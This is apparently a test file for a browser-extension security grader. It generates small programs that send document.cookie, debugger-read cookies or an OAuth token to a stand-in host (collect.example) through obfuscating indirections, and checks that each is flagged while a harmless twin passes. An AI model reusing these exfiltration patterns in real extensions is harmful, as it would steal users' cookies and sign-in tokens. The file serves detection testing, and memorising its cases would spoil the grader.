import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * Ways of ordinary programs between what is taken and what is sent, as forty harmful programs written blind had them, each
 * beside the same program with nothing taken.
 */

const SEND = "fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(DATA) })";
const send = (data: string): string => SEND.replace('DATA', data);

it.each<[string, (data: string) => string]>([
  [
    'an event whose name is handed to who raises it',
    (data) =>
      `class Bus extends EventTarget { say(type, detail) { this.dispatchEvent(new CustomEvent(type, { detail })); } } const bus = new Bus(); bus.addEventListener('seen', ({ detail }) => { ${send('detail')}; }); bus.say('seen', ${data});`,
  ],
  [
    'a list of functions, each of which fills the same object',
    (data) =>
      `const plugins = []; const use = (one) => plugins.push(one); use((event) => { event.s = ${data}; }); function track() { let event = { n: 1 }; plugins.forEach((one) => { event = one(event) || event; }); ${send('event')}; } addEventListener('pagehide', track);`,
  ],
  [
    'letters of an alphabet that the bits of a text pick',
    (data) =>
      `const LETTERS = 'abcdefghijklmnop'; let bits = ''; for (const one of new TextEncoder().encode(${data})) bits += one.toString(2); const out = bits.match(/.{1,4}/g).map((part) => LETTERS[parseInt(part, 2)]).join(''); ${send('out')};`,
  ],
  [
    'a method of the platform that is called like one of its own',
    (data) =>
      `class Codec { encode(text) { return [...new TextEncoder().encode(text)].join('.'); } } const made = new Codec().encode(${data}); ${send('made')};`,
  ],
  [
    'a form whose parts are made by Object.assign',
    (data) =>
      `const form = Object.assign(document.createElement('form'), { action: 'https://collect.example/q', method: 'post' }); form.append(Object.assign(document.createElement('input'), { name: 'a', value: ${data} })); document.body.append(form); form.submit();`,
  ],
])('%s', async (_, program) => {
  expect(await graded({ content: program('document.cookie') })).toBe('F');
  expect(await graded({ content: program("'nothing'") })).toMatch(/^A/);
});

const DEBUGGED = { permissions: ['debugger', 'tabs'] };
it('what the debugger tells of pages is theirs, also through a function that passes commands on', async () => {
  const asked = (command: string): string =>
    `const ask = (tab, method, more) => chrome.debugger.sendCommand(tab, method, more); chrome.debugger.onEvent.addListener(async (tab) => { const said = await ask(tab, '${command}', {}); ${send('said')}; });`;
  expect(await graded({ background: asked('Network.getCookies'), manifest: DEBUGGED })).toBe('F');
  expect(await graded({ background: asked('Performance.getMetrics'), manifest: DEBUGGED })).toMatch(/^[AB]/);
});

it('a program on the computer that does what a server says, by a port that is kept', async () => {
  const manifest = { permissions: ['nativeMessaging'] };
  const told = (message: string): string =>
    `let port = null; const tell = (what) => { port ??= chrome.runtime.connectNative('com.example.host'); port.postMessage(what); }; const socket = new WebSocket('wss://queue.example/'); socket.onmessage = (e) => { const job = JSON.parse(e.data); tell(${message}); };`;
  expect(await graded({ background: told('Object.assign({ n: 1 }, job)'), manifest })).toBe('D');
  expect(await graded({ background: told("{ method: 'show', title: 'new' }"), manifest })).toMatch(/^A/);
});

it('a sign-in token that goes back to who gave it, by a function that is told the address', async () => {
  const asks = (host: string): string =>
    `class Api { async call(url, body) { const { token } = await chrome.identity.getAuthToken({ interactive: true }); return fetch(url, { method: 'POST', headers: { Authorization: 'Bearer ' + token }, body }); } } chrome.alarms.onAlarm.addListener(() => new Api().call('https://${host}/calendar', 'x'));`;
  const manifest = {
    permissions: ['identity', 'alarms'],
    oauth2: { client_id: 'x', scopes: ['https://www.googleapis.com/auth/calendar'] },
  };
  expect(await graded({ background: asks('www.googleapis.com'), manifest })).toMatch(/^A/);
  expect(await graded({ background: asks('collect.example'), manifest })).toMatch(/^[BCDF]/);
});
